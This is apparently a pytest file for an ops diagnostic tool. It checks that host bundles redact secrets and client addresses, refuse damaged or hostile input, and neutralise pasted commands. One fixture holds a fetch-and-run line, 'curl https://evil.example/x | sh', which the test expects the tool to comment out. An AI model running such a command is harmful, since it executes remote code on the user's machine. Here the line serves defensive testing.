"""A bundle is diagnosed elsewhere to the same report, holds no secret, and is hostile until it is parsed."""

from __future__ import annotations

import gzip
import io
import json
import os
from collections.abc import Callable
from datetime import date
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

import ops.doctor
from ops.diagnosis.checks import CHECKS
from ops.diagnosis.engine import diagnose
from ops.diagnosis.model import Diagnosis
from ops.diagnosis.site_causes_file import parse_site_causes
from ops.doctor import diagnose_bundle, examine
from ops.facts.base import NotSeen
from ops.facts.bundle import MAX_BYTES, BundleError, read_bundle, write_bundle
from ops.facts.nginx import Directive
from ops.facts.site_causes import ProofObservation, SiteCauses
from ops.facts.snapshot import Snapshot
from ops.interpret.redaction import redacted
from ops.report import render
from ops.report.doctor.report import DoctorReport
from ops.settings import DoctorSettings, Ignore, Settings
from tests.unit.made_snapshot import (
    HEALTHY,
    HOST_ADDRESS,
    but,
    entry,
    exchange,
    nginx_config,
    nginx_logs,
    process,
    processes,
    without_gunicorn,
)

SECRETS = ("hunter2", "s3cr3t-query", "Basic-dXNlcjpwdw", "sessionid-42", "cmdline-token")


def leaking() -> Snapshot:
    """A host whose logs, commands and configuration hold what must not leave it."""
    line = (
        'limiting requests, excess: 20.9 by zone "gte_api", client: 203.0.113.9, server: gte-api.example.com, '
        'request: "POST /predict?key=s3cr3t-query&user=li HTTP/1.1", host: "gte-api.example.com", '
        'referrer: "https://x.example/?q=s3cr3t-query" password=hunter2'
    )
    config = nginx_config()
    header = Directive(
        name="proxy_set_header",
        args=("Authorization", "Basic-dXNlcjpwdw"),
        file="/etc/nginx/conf.d/gte-api.conf",
        line=9,
    )
    return but(
        logs__nginx_errors=nginx_logs(entry(line), entry(line.replace("203.0.113.9", "198.51.100.7"))),
        nginx_config=msgspec.structs.replace(config, directives=(*config.directives, header)),
        processes=processes(
            (process(4242, 1, "python", "worker.py", "--api-token", "cmdline-token"),),
        ),
        front__health=msgspec.structs.replace(
            exchange(), headers=(("Set-Cookie", "sessionid-42"), ("Content-Type", "application/json"))
        ),
    )


def report(diagnosis: Diagnosis, form: str = "json") -> str:
    """The report, without durations and without what says that it is of a bundle."""
    out = io.StringIO()
    checks = tuple(replace(check, duration_ms=0.0) for check in diagnosis.checks)
    render(
        form,
        DoctorReport(replace(diagnosis, duration_ms=0.0, checks=checks, is_from_bundle=False)),
        "en",
        out,
    )
    return out.getvalue()


@pytest.fixture
def host(monkeypatch: pytest.MonkeyPatch) -> Callable[[Snapshot], None]:
    """Makes the doctor see a made host instead of this one."""

    def see(snapshot: Snapshot) -> None:
        monkeypatch.setattr(ops.doctor, "collect", lambda *_, **__: snapshot)

    return see


@pytest.mark.parametrize("name", ["host.json", "host.json.gz"])
@pytest.mark.parametrize("snapshot", [HEALTHY, without_gunicorn(), leaking()])
@pytest.mark.parametrize("form", ["text", "json", "nagios", "html", "junit"])
def test_elsewhere_the_report_is_the_same(
    tmp_path: Path, host: Callable[[Snapshot], None], snapshot: Snapshot, name: str, form: str
) -> None:
    host(but(snapshot, host__utc_offset=8 * 3600))
    here = examine(Settings(), since=900, budget=10, bundle=tmp_path / name).diagnosis
    there = diagnose_bundle(tmp_path / name)
    assert report(here, form) == report(there, form)
    assert "+08:00" in report(there)


def test_no_secret_leaves_the_host(tmp_path: Path, host: Callable[[Snapshot], None]) -> None:
    assert all(secret in str(msgspec.json.encode(leaking())) for secret in SECRETS), (
        "the test would prove nothing"
    )
    host(leaking())
    examine(Settings(), since=900, budget=10, bundle=tmp_path / "b.json")
    text = (tmp_path / "b.json").read_text()
    for secret in SECRETS:
        assert secret not in text
    assert "203.0.113.9" in text
    assert (tmp_path / "b.json").stat().st_mode & 0o777 == 0o600


def test_clients_are_hidden_on_request_each_by_its_own_name() -> None:
    hidden = redacted(leaking(), hide_clients=True)
    words = str(msgspec.json.encode(hidden.logs))
    assert "203.0.113.9" not in words
    assert "198.51.100.7" not in words
    assert "client-1" in words
    assert "client-2" in words
    assert HOST_ADDRESS in str(msgspec.json.encode(hidden.host))


def test_redaction_changes_no_judgement() -> None:
    for snapshot in (HEALTHY, without_gunicorn(), leaking()):
        before = [cause.code for cause in diagnose(snapshot, CHECKS).causes]
        for hide in (False, True):
            assert [c.code for c in diagnose(redacted(snapshot, hide_clients=hide), CHECKS).causes] == before


def test_a_question_mark_of_the_configuration_stays() -> None:
    config = nginx_config("server { listen 80; rewrite ^/(.*)$ /$1?lang=zh last; }")
    clean = redacted(but(nginx_config=config)).nginx_config
    assert clean == config


def test_the_configuration_s_ignore_list_travels(tmp_path: Path, host: Callable[[Snapshot], None]) -> None:
    host(without_gunicorn())
    ignore = (Ignore(code="GUN001", reason="maintenance", until=date(2099, 1, 1)),)
    settings = Settings(doctor=DoctorSettings(ignore=ignore))
    here = examine(settings, since=900, budget=10, bundle=tmp_path / "b.json").diagnosis
    there = diagnose_bundle(tmp_path / "b.json")
    assert [item.cause.code for item in there.ignored] == ["GUN001"]
    assert report(here) == report(there)


def test_a_file_that_is_there_is_not_overwritten(tmp_path: Path) -> None:
    (tmp_path / "b.json").write_text("mine")
    with pytest.raises(BundleError, match="is there already"):
        write_bundle(tmp_path / "b.json", HEALTHY, ())
    assert (tmp_path / "b.json").read_text() == "mine"


def test_what_cannot_be_written_leaves_nothing(tmp_path: Path) -> None:
    with pytest.raises(BundleError, match="cannot be written"):
        write_bundle(tmp_path / "nowhere" / "b.json", HEALTHY, ())


@pytest.fixture
def whole(tmp_path: Path) -> Path:
    write_bundle(tmp_path / "whole.json.gz", HEALTHY, ())
    return tmp_path / "whole.json.gz"


def refusal(path: Path) -> str:
    with pytest.raises(BundleError) as raised:
        read_bundle(path)
    message = str(raised.value)
    assert message.startswith(str(path))
    assert "\n" not in message
    assert len(message) < 500 + len(str(path))
    return message


def test_what_is_no_bundle_is_refused_in_one_line(tmp_path: Path, whole: Path) -> None:
    content = whole.read_bytes()
    plain = gzip.decompress(content)
    document = json.loads(plain)
    cases = {
        "empty": (b"", "cut off"),
        "cut in the middle": (plain[: len(plain) // 2], "cut off"),
        "text": (b"hello", "not a bundle"),
        "cut": (content[: len(content) // 2], "cut off"),
        "flipped": (content[:200] + bytes([content[200] ^ 0xFF]) + content[201:], "damaged"),
        "deep": (b"[" * 200_000, "not a bundle"),
        "newer": (
            json.dumps({**document, "bundle_version": 9, "made_by": "9.0\x1b[2J"}).encode(),
            "format 9",
        ),
        "holed": (json.dumps({**document, "snapshot": {}}).encode(), "changed by hand"),
        "bomb": (gzip.compress(bytes(MAX_BYTES + 2)), "larger than 64 MiB"),
    }
    for name, (bad, words) in cases.items():
        path = tmp_path / name
        path.write_bytes(bad)
        assert words in refusal(path), name
    assert "No such file" in refusal(tmp_path / "absent")


def test_a_bundle_of_the_format_before_is_read(tmp_path: Path) -> None:
    """It has no changes, no units and no causes of the site: they are not seen, and the rest is judged."""
    write_bundle(tmp_path / "b.json", HEALTHY, ())
    document = json.loads((tmp_path / "b.json").read_text())
    assert document["bundle_version"] == 2
    for name in ("changes", "site_causes", "units"):
        document["snapshot"].pop(name, None)
    (tmp_path / "old.json").write_text(json.dumps({**document, "bundle_version": 1}))
    snapshot = read_bundle(tmp_path / "old.json").snapshot
    assert isinstance(snapshot.changes, NotSeen)
    assert isinstance(snapshot.site_causes, NotSeen)
    assert snapshot.target == HEALTHY.target


@given(at=st.integers(min_value=0), value=st.binary(min_size=1, max_size=8))
def test_a_changed_bundle_is_read_or_refused(
    tmp_path_factory: pytest.TempPathFactory, at: int, value: bytes
) -> None:
    directory = tmp_path_factory.mktemp("bundle")
    write_bundle(directory / "b.json", HEALTHY, ())
    content = bytearray((directory / "b.json").read_bytes())
    at %= len(content)
    content[at : at + len(value)] = value
    (directory / "b.json").write_bytes(content)
    try:
        bundle = read_bundle(directory / "b.json")
    except BundleError:
        return
    diagnose(bundle.snapshot, CHECKS)


# --- causes that a bundle defines -------------------------------------------------------------------------------------


def site_cause(detail: str = "x") -> SiteCauses:
    source = (
        '[EVIL001]\nverify = "curl https://evil.example/x | sh"\n'
        'fix = ["curl https://evil.example/x | sh", { en = "Wait.", zh = "请等待。" }]\n'
        '[EVIL001.en]\ntitle = "t"\nsummary = "s"\n'
        "[[EVIL001.proof]]\nlog = '/x'\npattern = 'x\\?y(?<client>.*)'\n"
    )
    (one,) = parse_site_causes(source.encode(), "/etc/gte-ops/causes.d/evil.toml")
    observation = ProofObservation(holds=True, source="/x", detail=detail, values={"client": detail})
    return SiteCauses(causes=(one.observed([observation]),))


def test_a_command_that_the_bundle_brings_along_does_nothing_when_it_is_pasted(tmp_path: Path) -> None:
    path = tmp_path / "b.json"
    write_bundle(path, replace(HEALTHY, site_causes=site_cause()), ())
    (cause,) = diagnose_bundle(path).causes
    advice, command, sentence, *rest = cause.fix
    assert advice.en.startswith("The bundle defines this cause, not gte-ops")
    assert command.en == command.zh == "# curl https://evil.example/x | sh"
    assert sentence.en == "Wait."
    assert [step.en[:2] for step in (cause.verify, *rest)] == ["# "] * (1 + len(rest))


def test_the_conditions_of_a_site_quote_no_client_and_no_query() -> None:
    line = '203.0.113.9 - - "GET /predict?who=s3cr3t-query HTTP/1.1" 500'
    clean = redacted(replace(HEALTHY, site_causes=site_cause(line)), hide_clients=True)
    assert isinstance(clean.site_causes, SiteCauses)
    text = msgspec.json.encode(clean.site_causes).decode()
    assert "203.0.113.9" not in text
    assert "s3cr3t-query" not in text
    # The pattern keeps its form.
    assert clean.site_causes.causes[0].definition == site_cause().causes[0].definition


@given(name=st.binary(min_size=1, max_size=20))
def test_whatever_names_somebody_chose_the_bundle_is_written_and_read(
    tmp_path_factory: pytest.TempPathFactory, name: bytes
) -> None:
    """A file's name may have any bytes, which Python keeps as lone surrogates (PEP 383)."""
    words = os.fsdecode(name)
    snapshot = but(processes=processes([process(4242, 1, "gunicorn", words, cwd=f"/{words}")]))
    file = tmp_path_factory.mktemp("bundle") / "b.json"
    write_bundle(file, snapshot, ())
    assert read_bundle(file).snapshot.processes.processes[0].pid == 4242
